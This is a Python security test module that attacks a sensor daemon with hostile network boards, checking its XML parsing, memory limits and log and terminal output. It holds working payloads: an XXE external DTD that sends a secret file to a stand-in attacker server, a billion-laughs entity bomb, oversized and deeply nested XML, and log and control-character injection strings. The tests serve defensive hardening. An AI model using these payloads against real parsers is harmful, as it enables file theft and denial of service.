# SPDX-License-Identifier: Apache-2.0
"""Hostile boards: a daemon with `iio:ip:`, and a board of the attacker."""

import contextlib
import os
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import varlink
from attack import FAILS, Attack, Environment, Target
from attacks.tables import hoard
from board import Board, Fetches, context, plain
from daemon import Daemon
from text import raw_control_characters
from users import ATTACKER, DAEMON, Child

SECRET = "the-daemons-secret"
# The maximum memory for a context in KiB, far below the size of the attack's text.
CONTEXT = 128 * 1024
HUGE = 400_000_000
# The timeout of `orientationctl` in seconds.
TIMEOUT = 20
# CSI as a C1 character, a bidirectional override and isolate, a line separator.
CONTROL = "&#x9b;31m&#x202e;&#x2066;&#x2028;"
CONTROL_READING = b"\x1b]0;owned\x07\x9b31m<0>owned\n<0>owned"


def follow(target: Target) -> None:
    """Subscribe, so that the daemon opens the sensor, and list the sensors repeatedly."""
    with contextlib.suppress(*FAILS), target.connect() as client:
        client.monitor()
        for _ in target.attempts():
            with contextlib.suppress(*FAILS), target.connect() as other:
                other.call(f"{varlink.ORIENTATION}.ListSensors")
            time.sleep(0.2)


@contextlib.contextmanager
def with_board(environment: Environment, board: Board, fetches: Fetches | None = None) -> Iterator[Daemon]:
    def serve() -> None:
        if fetches:
            threading.Thread(target=fetches.serve, daemon=True).start()
        board.serve()

    server = Child(ATTACKER + 100, serve)
    board.listener.close()
    daemon = Daemon(environment.programs, environment.folder, ("--sensor", f"iio:ip:127.0.0.1:{board.port}"))
    try:
        yield daemon
    finally:
        ended = daemon.end()
        environment.expect(not ended, ended)
        server.end()


@contextlib.contextmanager
def external(environment: Environment) -> Iterator[Daemon]:
    """A document type on the attacker's server, with entities that send a file of the daemon's user there."""
    secret = environment.folder / "secret"
    secret.write_text(SECRET)
    os.chown(secret, DAEMON, DAEMON)
    secret.chmod(0o600)
    note = environment.folder / "fetches"
    note.touch()
    os.chown(note, ATTACKER + 100, ATTACKER + 100)
    fetches = Fetches(note, lambda port: (
        f'<!ENTITY % file SYSTEM "file://{secret}"><!ENTITY % all "<!ENTITY send SYSTEM '
        f"'http://127.0.0.1:{port}/?%file;'>\">%all;").encode())
    board = Board(lambda: (
        f'<?xml version="1.0"?><!DOCTYPE context SYSTEM "http://127.0.0.1:{fetches.port}/x.dtd" [<!ENTITY % more SYSTEM '
        f'"http://127.0.0.1:{fetches.port}/y.dtd">%more;]><context name="network">&send;</context>').encode())
    with with_board(environment, board, fetches) as daemon:
        yield daemon


def nothing_was_fetched(environment: Environment, daemon: Daemon) -> None:
    fetched = (environment.folder / "fetches").read_text()
    environment.expect(SECRET not in fetched, "a file of the daemon's user was sent to the attacker")
    environment.expect(not fetched, f"libxml2 fetched {len(fetched.splitlines())} times: {fetched.splitlines()[:1]}")


def bomb() -> bytes:
    """Return ten entities, each of which repeats the previous one ten times."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE context [<!ENTITY e0 "{"x" * 1000}">{entities}]>'
            f'<context name="network" description="&e9;"><device id="iio:device0" name="&e5;"/></context>').encode()


def huge() -> bytes:
    device = b'<device id="iio:device0" name="x"></device>'
    return b'<context name="network">' + device * (HUGE // len(device)) + b"</context>"


def deep() -> bytes:
    return b'<context name="network">' + b"<device>" * 100_000 + b"</device>" * 100_000 + b"</context>"


def invalid_xml() -> bytes:
    """Return invalid XML. libxml2 prints the invalid lines to standard error; they begin with the journal's prefix of an
    emergency."""
    return b'<?xml version="1.0"?>\n<context>\n<0>owned: \x1b[31m\n<0>owned &nothing; <a b=c></context>'


def slow() -> bytes:
    """Return the context after 4 s, for which the daemon waits while its memory limit is in force."""
    time.sleep(4)
    return context()


def follow_or_fill(target: Target) -> None:
    """Subscribe as one attacker, and fill the buffers for clients as the others."""
    if target.number:
        hoard(target)
    else:
        follow(target)


def serving(xml: Callable[[], bytes], read: Callable[[str], bytes] = plain) -> Callable:
    return lambda environment: with_board(environment, Board(xml, read))


def memory_is_bounded(environment: Environment, daemon: Daemon) -> None:
    environment.expect(daemon.peak() < CONTEXT, f"the context took {daemon.peak()} KiB")
    environment.remarks.append(f"peak {daemon.peak()} KiB")


def log_is_clean(environment: Environment, daemon: Daemon) -> None:
    lines = daemon.log.read_bytes().split(b"\n")
    environment.expect(not any(line.startswith(b"<") for line in lines), "a log line starts with a priority from the board")
    found = raw_control_characters(daemon.log.read_bytes())
    environment.expect(not found, f"the log has raw control characters: {found}")


def tool_is_clean(environment: Environment, daemon: Daemon) -> None:
    """Check the log and the output of root's commands."""
    log_is_clean(environment, daemon)
    for words in (["sensors"], ["sensors", "--json"], ["status"], ["status", "--json"], ["doctor"], ["doctor", "--json"],
                  ["watch", "--count", "1", "--plain"], ["record", "--duration", "1", "-"]):
        done = subprocess.run([environment.programs / "orientationctl", "--socket", daemon.path, *words],
                              stdin=subprocess.DEVNULL, capture_output=True, timeout=TIMEOUT)
        environment.expect(done.returncode >= 0, f"orientationctl {' '.join(words)} ended with signal {-done.returncode}")
        found = raw_control_characters(done.stdout + done.stderr)
        environment.expect(not found, f"orientationctl {' '.join(words)} prints {found}")


ROWS = [
    Attack("board: external entities", follow, stage=external, after=nothing_was_fetched),
    Attack("board: entity bomb", follow, stage=serving(bomb), after=memory_is_bounded),
    Attack("board: 400 MB of XML", follow, stage=serving(huge), seconds=8, after=memory_is_bounded),
    Attack("board: 100000 levels of XML", follow, stage=serving(deep), after=memory_is_bounded),
    Attack("board: a slow context, full buffers", follow_or_fill, stage=serving(slow), attackers=12, seconds=8),
    Attack("board: lines for the log", follow, stage=serving(invalid_xml), after=log_is_clean),
    Attack("board: control characters", follow, stage=serving(lambda: context(CONTROL, CONTROL)),
           during=tool_is_clean, rounds=1),
    Attack("board: readings of control characters", follow,
           stage=serving(context, lambda name: CONTROL_READING), during=tool_is_clean, rounds=1),
    Attack("board: extreme readings", follow,
           stage=serving(context, lambda name: b"1e308" if "scale" in name else b"-9223372036854775808"),
           during=tool_is_clean, rounds=1),
]
